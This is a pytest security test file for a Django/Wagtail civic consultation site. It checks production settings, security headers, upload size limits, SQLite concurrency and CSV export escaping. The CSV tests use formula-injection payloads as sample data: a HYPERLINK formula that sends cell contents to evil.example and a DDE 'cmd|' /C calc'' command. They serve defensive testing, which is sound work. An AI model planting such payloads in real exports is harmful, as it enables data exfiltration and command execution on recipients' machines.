"""The production path is explicit and safe; what the production configuration serves holds up.

CI also serves `cms.settings.production` under gunicorn and crawls it (`.ci/production`); these
tests pin down each finding on its own, in the test run.
"""

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.staticfiles import finders
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import override_settings
from django.urls import reverse

from tests.proposals.factories import ProposalFactory

ROOT = Path(settings.BASE_DIR)
STATIC_TAG = re.compile(r"{%\s*static\s+['\"]([^'\"]+)['\"]")


def settings_of(module, **environ):
    """Import a settings module in a fresh interpreter, as manage.py or gunicorn would."""
    env = {k: v for k, v in os.environ.items() if k not in ("SECRET_KEY", "ALLOWED_HOSTS")}
    env.update(environ, DJANGO_SETTINGS_MODULE=module)
    code = "from django.conf import settings; print(settings.DEBUG, settings.EMAIL_FILE_PATH)"
    return subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True
    )


def template_files():
    for folder in ("cms", "events", "manifattura", "proposals"):
        yield from (ROOT / folder).rglob("templates/**/*.html")


def test_every_static_file_a_template_names_is_a_file():
    """The manifest storage refuses a folder (every page answered 500 for the fonts' folder)."""
    named = {
        (template.relative_to(ROOT), path)
        for template in template_files()
        for path in STATIC_TAG.findall(template.read_text())
    }
    missing = [
        f"{template}: {path}"
        for template, path in sorted(named)
        if not (found := finders.find(path)) or not Path(found).is_file()
    ]
    assert named and missing == []


def test_public_pages_carry_no_inline_script(client, home_page):
    """Pages are shared from the cache, so a per-request nonce is impossible: no inline script."""
    html = client.get("/").content.decode()
    scripts = re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", html)
    assert [tag for tag in scripts if "application/json" not in tag] == []


def test_security_headers_on_public_and_admin_pages(client, admin_client, home_page):
    public = client.get("/")
    assert "script-src 'self';" in public["Content-Security-Policy"] + ";"
    assert "frame-ancestors 'self'" in public["Content-Security-Policy"]
    assert "object-src 'none'" in public["Content-Security-Policy"]
    assert "camera=()" in public["Permissions-Policy"]
    assert public["X-Frame-Options"] == "SAMEORIGIN"
    admin = admin_client.get("/admin/")
    assert admin.status_code == 200
    # Wagtail's admin has inline scripts of its own: allowed there only.
    assert (
        "'unsafe-inline'" in admin["Content-Security-Policy"].split("script-src")[1].split(";")[0]
    )


def test_development_settings_refuse_a_public_host():
    result = settings_of("cms.settings.dev", ALLOWED_HOSTS="partecipa.comune.milano.it")
    assert result.returncode != 0
    assert "serves only this machine" in result.stderr
    assert settings_of("cms.settings.dev").stdout.startswith("True")


@pytest.mark.parametrize("key", ["", "short", "django-insecure-" + "x" * 60])
def test_production_settings_refuse_a_missing_or_weak_key(key):
    result = settings_of("cms.settings.production", SECRET_KEY=key)
    assert result.returncode != 0
    assert "SECRET_KEY" in result.stderr


def test_production_settings_read_the_email_file_path(tmp_path):
    result = settings_of(
        "cms.settings.production", SECRET_KEY="k" * 60, EMAIL_FILE_PATH=str(tmp_path)
    )
    assert result.stdout.split() == ["False", str(tmp_path)]


@override_settings(SITE_ENVIRONMENT="production")
def test_load_demo_refuses_production_settings_unless_told(db):
    with pytest.raises(CommandError, match="--allow-production"):
        call_command("load_demo")


@pytest.mark.django_db
def test_open_data_csv_cells_never_run_as_formulas(client):
    consultation = ProposalFactory(title='=HYPERLINK("http://evil.example","x")').consultation
    ProposalFactory(consultation=consultation, title="@SUM(A1:A2)")
    ProposalFactory(consultation=consultation, title="\tcmd")
    response = client.get(reverse("proposals:open_data_csv", args=[consultation.pk]))
    titles = [
        row["title"] for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    ]
    assert sorted(titles) == sorted(
        ['\'=HYPERLINK("http://evil.example","x")', "'@SUM(A1:A2)", "'\tcmd"]
    )


def test_wagtail_admin_csv_exports_never_run_as_formulas():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    exporter = SpreadsheetExportMixin()
    exporter.list_export = ["title", "count"]
    stream = io.StringIO()
    writer = csv.DictWriter(stream, fieldnames=exporter.list_export)
    exporter.write_csv_row(writer, {"title": "-2+3+cmd|' /C calc'!A0", "count": -3})
    assert stream.getvalue() == "'-2+3+cmd|' /C calc'!A0,-3\r\n"


def test_wagtail_admin_csv_exports_neutralise_related_objects_and_cells_after_semicolons():
    """A related object is written as its text: the formula check runs on that text."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    class Titled:
        def __str__(self):
            return '=HYPERLINK("http://evil.example/?"&A1,"x")'

    exporter = SpreadsheetExportMixin()
    exporter.list_export = ["proposal", "body"]
    stream = io.StringIO()
    writer = csv.DictWriter(stream, fieldnames=exporter.list_export)
    exporter.write_csv_row(writer, {"proposal": Titled(), "body": "ok;=1+1\n@SUM(A1)"})
    proposal, body = next(csv.reader(io.StringIO(stream.getvalue())))
    assert proposal.startswith("'=HYPERLINK")
    assert body == "ok;'=1+1\n'@SUM(A1)"


def test_a_body_larger_than_any_form_takes_is_refused_before_it_is_read(client, home_page):
    with override_settings(REQUEST_BODY_MAX_BYTES=1024):
        upload = SimpleUploadedFile("grande.pdf", b"%PDF-" + b"0" * 4096)
        response = client.post("/account/login/", {"login": "a@example.org", "file": upload})
    assert response.status_code == 400


SQLITE_WRITERS = """
import sys, django
django.setup()
from django.db import connection, transaction
for n in range(200):
    with transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("SELECT COUNT(*) FROM tally")
            cursor.execute("INSERT INTO tally (writer) VALUES (%s)", [sys.argv[1]])
"""


@pytest.mark.skipif(
    settings.DATABASES["default"]["ENGINE"] != "django.db.backends.sqlite3",
    reason="the embedded SQLite default only",
)
def test_sqlite_takes_the_web_server_and_the_worker_writing_at_once(tmp_path):
    """Read-then-write transactions in two processes: never "database is locked"."""
    database = tmp_path / "site.sqlite3"
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "cms.settings.dev"}
    env["DATABASE_URL"] = f"sqlite:///{database}"
    setup = "import django; django.setup(); from django.db import connection; "
    setup += "connection.cursor().execute('CREATE TABLE tally (writer TEXT)')"
    subprocess.run([sys.executable, "-c", setup], cwd=ROOT, env=env, check=True)
    writers = [
        subprocess.Popen(
            [sys.executable, "-c", SQLITE_WRITERS, name], cwd=ROOT, env=env, stderr=subprocess.PIPE
        )
        for name in ("web", "worker")
    ]
    errors = [writer.communicate()[1].decode() for writer in writers]
    assert [writer.returncode for writer in writers] == [0, 0], errors
    count = "import django; django.setup(); from django.db import connection; c = "
    count += "connection.cursor(); c.execute('SELECT COUNT(*) FROM tally'); print(c.fetchone()[0])"
    result = subprocess.run(
        [sys.executable, "-c", count], cwd=ROOT, env=env, capture_output=True, text=True
    )
    assert result.stdout.strip() == "400"
